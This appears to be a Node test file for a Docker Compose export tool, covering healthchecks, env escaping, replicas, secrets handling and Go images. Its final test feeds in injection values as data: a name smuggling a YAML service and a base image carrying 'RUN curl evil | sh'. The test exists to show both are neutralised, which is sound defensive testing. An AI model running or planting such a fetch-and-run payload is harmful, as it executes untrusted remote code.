import assert from 'node:assert/strict';
import test from 'node:test';
import { parse } from 'yaml';
import { composeModel } from '../../core/export/compose';
import { exportFiles } from '../../core/export/exportFiles';
import { exportNotes } from '../../core/export/notes';
import { ExportError } from '../../core/export/plan';
import { serviceEnv } from '../../core/runtime/serviceEnv';
import { bookshop, composeErrors, readme, tenServices, writeEcosystem } from './exportFixture';

type ComposeService = {
  environment: Record<string, string>; command: string[]; ports: string[]; healthcheck?: { test: string[]; start_period: string };
  depends_on?: Record<string, { condition: string }>; restart: string; init?: boolean; deploy?: { replicas: number }; container_name?: string; secrets?: { source: string; target: string }[];
};
const servicesOf = (model: Record<string, unknown>) => model.services as Record<string, ComposeService>;

test('the bookshop exports to a Compose file the Compose specification accepts, read back as written', async () => {
  const plan = await bookshop().plan();
  const model = composeModel(plan);
  assert.deepEqual(composeErrors(model), []);
  const file = exportFiles(plan, 'compose').find((f) => f.path === 'compose.yaml')!;
  assert.deepEqual(parse(String(file.content), { version: '1.1' }), model, 'the YAML text reads back as the model, even as YAML 1.1');
  const storefront = servicesOf(model).storefront;
  assert.deepEqual(storefront.depends_on, { inventory: { condition: 'service_healthy' }, quotes: { condition: 'service_healthy' } });
  assert.equal(storefront.healthcheck?.test.slice(0, 3).join(' '), 'CMD node -e', 'the Node image probes with node');
  assert.equal(servicesOf(model).quotes.healthcheck?.test.slice(0, 3).join(' '), 'CMD python3 -c', 'the Python image probes with python3');
  assert.equal(storefront.healthcheck?.start_period, '60s', "the service's timeout");
  assert.doesNotMatch(JSON.stringify(model), /curl|wget/, 'no probe relies on a program slim images lack');
  assert.ok(Object.values(servicesOf(model)).every((s) => s.init === true), 'an init forwards stop signals past `sh -c`');
});

test('discovery is the local run\'s, pointing at the engine\'s service names', async () => {
  const plan = await bookshop().plan();
  const storefront = plan.services.find((s) => s.config.name === 'storefront')!;
  const local = serviceEnv({ base: {}, service: storefront.config, port: 8102, running: new Map([['inventory', { name: 'inventory', port: 8100 }], ['quotes', { name: 'quotes', port: 8101 }]]) });
  const exported = servicesOf(composeModel(plan)).storefront.environment;
  const localised = Object.fromEntries(Object.entries(exported).filter(([k]) => k !== 'HOST').map(([k, v]) => [k, v.replace(/\/\/(inventory|quotes|storefront):/, '//127.0.0.1:').replace(/^(inventory|quotes)$/, '127.0.0.1')]));
  assert.deepEqual(localised, local, 'the same variables and values, hosts aside');
  assert.equal(exported.QUOTES_API, 'http://quotes:8101', 'the env_var alias');
  assert.equal(exported.INVENTORY_HOST, 'inventory');
  assert.equal(exported.HOST, '0.0.0.0', 'a service that reads HOST listens where its peers reach it');
});

test('a localhost endpoint is never copied in; another endpoint is', async () => {
  const eco = writeEcosystem(`name: eps
services:
  api:
    port: 9000
  web:
    port: 9001
    depends_on:
      - {name: api, env_var: API_ADDR, endpoint: "http://localhost:9000"}
      - {name: billing, registry: remote, env_var: BILLING_URL, endpoint: "https://billing.example"}
`, { 'api/README.md': readme('python3 -m http.server $PORT'), 'web/README.md': readme('python3 -m http.server $PORT') });
  const env = servicesOf(composeModel(await eco.plan())).web.environment;
  assert.equal(env.API_ADDR, 'http://api:9000');
  assert.equal(env.BILLING_URL, 'https://billing.example');
});

test('the 10-service bench ecosystem validates, each service waiting for the health of what it depends on', async () => {
  const model = composeModel(await tenServices().plan());
  assert.deepEqual(composeErrors(model), []);
  const services = servicesOf(model);
  assert.equal(Object.keys(services).length, 10);
  assert.deepEqual(services.s9.depends_on, { s3: { condition: 'service_healthy' } });
  assert.deepEqual(services.s0.depends_on, undefined);
});

test('$ in run commands and env values is escaped for Compose interpolation', async () => {
  const eco = writeEcosystem(`services:
  api:
    port: 9000
    env:
      PRICE: "costs $5"
`, { 'api/README.md': readme('echo "$PORT" && exec python3 -m http.server $PORT') });
  const model = composeModel(await eco.plan());
  assert.deepEqual(composeErrors(model), []);
  const api = servicesOf(model).api;
  assert.equal(api.command[2], `trap 'kill -TERM -1 2>/dev/null; wait; exit 143' TERM INT\n(\necho "$$PORT" && exec python3 -m http.server $$PORT\n) &\nwait $$!`);
  assert.equal(api.environment.PRICE, 'costs $$5');
  const dockerfile = String(exportFiles(await eco.plan(), 'compose').find((f) => f.path === 'api/Dockerfile')!.content);
  const cmd = dockerfile.match(/^CMD (.*)$/m)![1];
  assert.deepEqual(JSON.parse(cmd), ['sh', '-c', `trap 'kill -TERM -1 2>/dev/null; wait; exit 143' TERM INT\n(\necho "$PORT" && exec python3 -m http.server $PORT\n) &\nwait $!`], 'the Dockerfile keeps it as written: Docker does not interpolate CMD');
});

test('replicas: no container_name and no fixed host port; auto_restart: false is restart "no"', async () => {
  const eco = writeEcosystem(`services:
  api:
    port: 9000
    replicas: 3
    auto_restart: false
`, { 'api/README.md': readme('python3 -m http.server $PORT') });
  const model = composeModel(await eco.plan());
  assert.deepEqual(composeErrors(model), []);
  const api = servicesOf(model).api;
  assert.deepEqual(api.deploy, { replicas: 3 });
  assert.equal(api.container_name, undefined);
  assert.deepEqual(api.ports, ['9000'], 'the container port only: the engine picks a host port per replica');
  assert.equal(api.restart, 'no');
});

test('secret-looking env values become Compose secrets read from files, not plain environment', async () => {
  const eco = writeEcosystem(`services:
  api:
    port: 9000
    env:
      DB_PASSWORD: hunter2
      API_TOKEN: abc
      TOKEN_COUNT: "3"
      DB_PASS: "\${PASSWORD}"
`, { 'api/README.md': readme('python3 -m http.server $PORT') });
  const plan = await eco.plan();
  const model = composeModel(plan);
  assert.deepEqual(composeErrors(model), []);
  const api = servicesOf(model).api;
  assert.deepEqual(api.secrets, [{ source: 'api.DB_PASSWORD', target: 'DB_PASSWORD' }, { source: 'api.API_TOKEN', target: 'API_TOKEN' }]);
  assert.equal(api.environment.DB_PASSWORD, undefined);
  assert.equal(api.environment.TOKEN_COUNT, '3', 'not a credential name');
  assert.equal(api.environment.DB_PASS, '$${PASSWORD}', 'a placeholder is not a secret value');
  assert.match(api.command[2], /^export DB_PASSWORD="\$\$\(cat \/run\/secrets\/DB_PASSWORD\)"; export API_TOKEN=/);
  assert.deepEqual((model.secrets as Record<string, unknown>)['api.DB_PASSWORD'], { file: './secrets/api.DB_PASSWORD' });
  const files = exportFiles(plan, 'compose');
  assert.equal(files.find((f) => f.path === 'secrets/api.DB_PASSWORD')?.content, 'hunter2');
  assert.doesNotMatch(String(files.find((f) => f.path === 'compose.yaml')!.content), /hunter2/);
  assert.match(String(files.find((f) => f.path === '.gitignore')!.content), /^\/secrets\/api\.DB_PASSWORD$/m);
});

test('a Go service gets the image given with --base-image; without one the export names the flag', async () => {
  const eco = writeEcosystem(`services:
  gw:
    port: 9000
    health_check: /health
`, { 'gw/README.md': readme('go run main.go', { files: { 'main.go': 'package main' } }) });
  await assert.rejects(eco.plan(), (error: unknown) => error instanceof ExportError && /gw: no image for its runtime 'go': pass --base-image go=IMAGE/.test(error.message));
  const plan = await eco.plan({ baseImages: { go: 'golang:1.22' } });
  const model = composeModel(plan);
  assert.deepEqual(composeErrors(model), []);
  assert.equal(servicesOf(model).gw.healthcheck, undefined, 'golang:1.22 has no interpreter for a probe we know');
  assert.match(String(exportFiles(plan, 'compose').find((f) => f.path === 'gw/Dockerfile')!.content), /^FROM golang:1\.22$/m);
  // The program is found as the local run's missing-toolchain check finds it: past assignments, `cd … &&` and `exec`.
  const behindCd = writeEcosystem('services:\n  gw:\n    port: 9000\n', { 'gw/README.md': readme('cd cmd/gw && CGO_ENABLED=0 exec go run .', { files: { 'cmd/gw/main.go': 'package main' } }) });
  await assert.rejects(behindCd.plan(), /gw: no image for its runtime 'go'/);
});

test("a Go service's deps lines (pip's, in a local run) are not installed in its image, and the export says so", async () => {
  const eco = writeEcosystem('services:\n  gw:\n    port: 9000\n', { 'gw/README.md': readme('go run main.go', { deps: ['requests'] }) });
  const plan = await eco.plan({ baseImages: { go: 'golang:1.22' } });
  const files = exportFiles(plan, 'compose');
  assert.equal(files.some((f) => f.path.startsWith('gw/deps/')), false);
  assert.doesNotMatch(String(files.find((f) => f.path === 'gw/Dockerfile')!.content), /pip|venv/);
  assert.match(exportNotes(plan, 'compose').join('\n'), /gw: its deps lines are not installed in its go image/);
});

test('a dependency without a probe is waited for as started', async () => {
  const eco = writeEcosystem(`services:
  gw:
    port: 9000
  web:
    port: 9001
    depends_on: [gw]
`, { 'gw/README.md': readme('go run main.go'), 'web/README.md': readme('python3 -m http.server $PORT') });
  const model = composeModel(await eco.plan({ baseImages: { go: 'golang:1.22' } }));
  assert.deepEqual(servicesOf(model).web.depends_on, { gw: { condition: 'service_started' } });
  assert.equal(servicesOf(model).web.healthcheck?.test.at(-1), 'import socket; socket.create_connection(("127.0.0.1", 9001), 3).close()', 'no health_check: the port answering counts, as in a local run');
});

test('--registry prefixes every image', async () => {
  const model = composeModel(await bookshop().plan({ registry: 'registry.example/team/' }));
  assert.equal((servicesOf(model).quotes as unknown as { image: string }).image, 'registry.example/team/bookshop-quotes');
});

test('services with the same dependency set (as the local cache counts it) get the same dependency layers; a different set does not', async () => {
  const deps = { deps: ['flask==3.0.0', 'requests'] };
  const eco = writeEcosystem('services:\n  a:\n    port: 9000\n  b:\n    port: 9001\n  c:\n    port: 9002\n', {
    'a/README.md': readme('python app.py', { ...deps, files: { 'app.py': 'print("a")' } }),
    'b/README.md': readme('python main.py', { deps: ['requests  # the same set, another order', 'flask==3.0.0'], files: { 'main.py': 'print("b")' } }),
    'c/README.md': readme('python app.py', { deps: ['flask==3.1.0'], files: { 'app.py': 'print("c")' } }),
  });
  const files = exportFiles(await eco.plan(), 'compose');
  const content = (path: string) => String(files.find((f) => f.path === path)!.content);
  // Docker reuses a layer when everything up to it is the same: the instructions and the content they copy.
  const dependencyLayers = (service: string) => content(`${service}/Dockerfile`).split('\n').filter((l) => !l.startsWith('#')).join('\n').split('\nCOPY --chown')[0];
  assert.equal(dependencyLayers('a'), dependencyLayers('b'));
  assert.equal(content('a/deps/requirements.txt'), content('b/deps/requirements.txt'));
  assert.notEqual(content('a/deps/requirements.txt'), content('c/deps/requirements.txt'));
  assert.match(dependencyLayers('a'), /RUN python3 -m venv \/srv\/venv && \/srv\/venv\/bin\/pip install .* -r \/srv\/deps\/requirements\.txt/);
});

test('names from the ecosystem file cannot break out of a comment; a base image from the settings cannot add lines to a Dockerfile', async () => {
  const eco = writeEcosystem('name: "shop\\nservices: {evil: {image: x}}"\nservices:\n  api:\n    port: 9000\n', { 'api/README.md': readme('python3 -m http.server $PORT') });
  const plan = await eco.plan();
  const compose = String(exportFiles(plan, 'compose').find((f) => f.path === 'compose.yaml')!.content);
  assert.deepEqual(Object.keys((parse(compose) as { services: object }).services), ['api']);
  const injected = compose.split('\n').filter((l) => l.includes('{evil'));
  assert.equal(injected.length, 1);
  assert.match(injected[0], /^# Docker Compose file for the ecosystem 'shop services: \{evil/, 'inside the header comment');
  await assert.rejects(eco.plan({ baseImages: { python: 'python:3.12\nRUN curl evil | sh' } }), (error: unknown) => error instanceof ExportError && /not an image reference/.test(error.message));
});
